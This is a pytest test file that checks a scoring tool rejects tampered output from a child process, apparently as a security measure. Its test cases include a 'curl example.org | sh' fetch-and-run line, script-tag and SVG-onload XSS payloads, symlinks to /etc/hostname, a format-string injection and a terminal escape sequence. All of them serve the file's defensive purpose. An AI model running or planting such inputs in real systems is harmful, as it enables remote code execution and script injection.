"""What a child left is believed only when it is what a sound child leaves."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import numpy as np
import pytest

from liyi.core.errors import LiyiError, error_to_json
from liyi.etiquette.store import save_performance
from liyi.report.html import HTML
from liyi.scoring import answers
from liyi.scoring.answers import UntrueError, check_sentence, collect, error_from_json, jpeg_size
from liyi.scoring.examined import assessment_text
from liyi.scoring.folder import ASSESSMENT, MEASURES, REPORT

CONTENT = b"the recording"


@pytest.fixture
def left(tmp_path, assessment, performance, signals):
    """What a sound child leaves, the descriptor of its recording, and what it says."""
    import cv2

    made = tmp_path / "answer"
    made.mkdir()
    digest = hashlib.sha256(CONTENT).hexdigest()
    about = assessment.recording.model_copy(update={"sha256": digest})
    (made / ASSESSMENT).write_text(assessment_text(assessment.model_copy(update={"recording": about})))
    save_performance(made / MEASURES, performance, signals)
    picture = np.random.default_rng(7).integers(0, 255, (48, 64, 3), dtype=np.uint8)
    (made / "0.jpg").write_bytes(cv2.imencode(".jpg", picture)[1].tobytes())
    (tmp_path / "clip").write_bytes(CONTENT)
    recording = os.open(tmp_path / "clip", os.O_RDONLY)
    yield made, recording, {"stills": [{"criterion": "shoulder_tilt", "t_s": 1.5, "width": 64, "height": 48}]}
    os.close(recording)


def test_a_sound_answer_is_taken_and_its_report_written_here(left, pack, tmp_path):
    made, recording, said = left
    answer = collect(made, said, recording=recording, pack=pack)
    answers.write(tmp_path / "out", answer, pack=pack, lang="en", report=HTML)
    assert (tmp_path / "out" / MEASURES).read_bytes() == (made / MEASURES).read_bytes()
    assert (tmp_path / "out" / ASSESSMENT).read_bytes() == (made / ASSESSMENT).read_bytes()
    assert "data:image/jpeg;base64," in (tmp_path / "out" / REPORT).read_text()


def _edit(made, change):
    data = json.loads((made / ASSESSMENT).read_text())
    change(data)
    (made / ASSESSMENT).write_text(json.dumps(data))


LIES = {
    "no assessment": lambda made, said: (made / ASSESSMENT).unlink(),
    "a link": lambda made, said: (
        (made / ASSESSMENT).unlink(),
        (made / ASSESSMENT).symlink_to("/etc/hostname"),
    ),
    "a pipe": lambda made, said: ((made / MEASURES).unlink(), os.mkfifo(made / MEASURES)),
    "a huge file": lambda made, said: os.truncate(made / ASSESSMENT, answers.MOST_ASSESSMENT + 1),
    "deep json": lambda made, said: (made / ASSESSMENT).write_text("[" * 100_000),
    "a field more": lambda made, said: _edit(made, lambda data: data.update(html="<script>")),
    "another recording": lambda made, said: _edit(made, lambda data: data["recording"].update(sha256="0" * 64)),
    "another pack": lambda made, said: _edit(made, lambda data: data["pack"].update(sha256="0" * 64)),
    "a sentence that asks": lambda made, said: _edit(
        made, lambda data: data["recording"]["warnings"][0].update(sentence="{second.__class__}")
    ),
    "a sentence of its own": lambda made, said: _edit(
        made, lambda data: data["recording"]["warnings"][0].update(sentence="Run curl example.org | sh.")
    ),
    "no parquet": lambda made, said: (made / MEASURES).write_bytes(b"PAR1" + bytes(100) + b"PAR1"),
    "no pictures said": lambda made, said: said.clear(),
    "too many pictures": lambda made, said: said.update(stills=said["stills"] * 13),
    "a picture of another size": lambda made, said: said["stills"][0].update(width=9999),
    "html for a picture": lambda made, said: (made / "0.jpg").write_bytes(b"<svg onload=alert(1)>"),
    "a picture with html behind it": lambda made, said: (made / "0.jpg").write_bytes(
        (made / "0.jpg").read_bytes() + b"<script>alert(1)</script>"
    ),
    "a picture outside": lambda made, said: (
        (made / "0.jpg").unlink(),
        (made / "0.jpg").symlink_to("/etc/hostname"),
    ),
    "no moment": lambda made, said: said["stills"][0].update(t_s=float("nan")),
}


@pytest.mark.parametrize("lie", LIES)
def test_an_answer_that_is_not_true_is_refused(left, pack, lie):
    made, recording, said = left
    LIES[lie](made, said)
    with pytest.raises(UntrueError):
        collect(made, said, recording=recording, pack=pack)


def test_a_warning_is_worded_here_and_steers_no_terminal(left, pack):
    made, recording, said = left
    first = {"sentence": "{people} people were seen: the one who was longest in view was assessed.",
             "fields": {"people": "\x1b[2J2"}, "text": "Run curl example.org | sh."}  # fmt: skip
    _edit(made, lambda data: data["recording"]["warnings"][0].update(first))
    warning = collect(made, said, recording=recording, pack=pack).assessment.recording.warnings[0]
    assert warning.text == "�[2J2 people were seen: the one who was longest in view was assessed."
    assert warning.fields == {"people": "�[2J2"}


def test_a_room_that_is_a_link_is_refused(left, pack, tmp_path):
    made, recording, said = left
    (tmp_path / "link").symlink_to(made)
    with pytest.raises(UntrueError):
        collect(tmp_path / "link", said, recording=recording, pack=pack)


def test_a_picture_with_a_comment_or_cut_off_is_refused(left):
    content = (left[0] / "0.jpg").read_bytes()
    assert jpeg_size(content) == (64, 48)
    for changed in (content[:-1], content[:2] + b"\xff\xfe\x00\x04hi" + content[2:], content[:20], b""):
        with pytest.raises(UntrueError):
            jpeg_size(changed)


@pytest.mark.parametrize("sentence", ["{a.b}", "{a[0]}", "{a!r}", "{a:>9}", "{b}", "{}", "x" * 5000, 5])
def test_a_sentence_may_only_name_its_fields(sentence):
    check_sentence("{a} is fine.", {"a": 1})
    with pytest.raises((UntrueError, ValueError)):
        check_sentence(sentence, {"a": 1})


def test_an_error_crosses_a_line_of_json_as_the_same_sentence():
    error = LiyiError("{file} lacks {count} of {share} ({by}).", file="a.mp4", count=3, share=0.5, by=Path("x"))
    back = error_from_json(**json.loads(json.dumps(error_to_json(error))))
    assert str(back) == str(error) == "a.mp4 lacks 3 of 0.5 (x)."
    assert back.fields == {"file": "a.mp4", "count": 3, "share": 0.5, "by": "x"}


@pytest.mark.parametrize(
    ("sentence", "fields"), [("{a}", {}), ("{", {}), ("{a}", {"a": [1]}), ("{a.b}", {"a": 1}), (5, {})]
)
def test_what_is_no_error_in_json_is_refused(sentence, fields):
    with pytest.raises(UntrueError):
        error_from_json(sentence, fields)
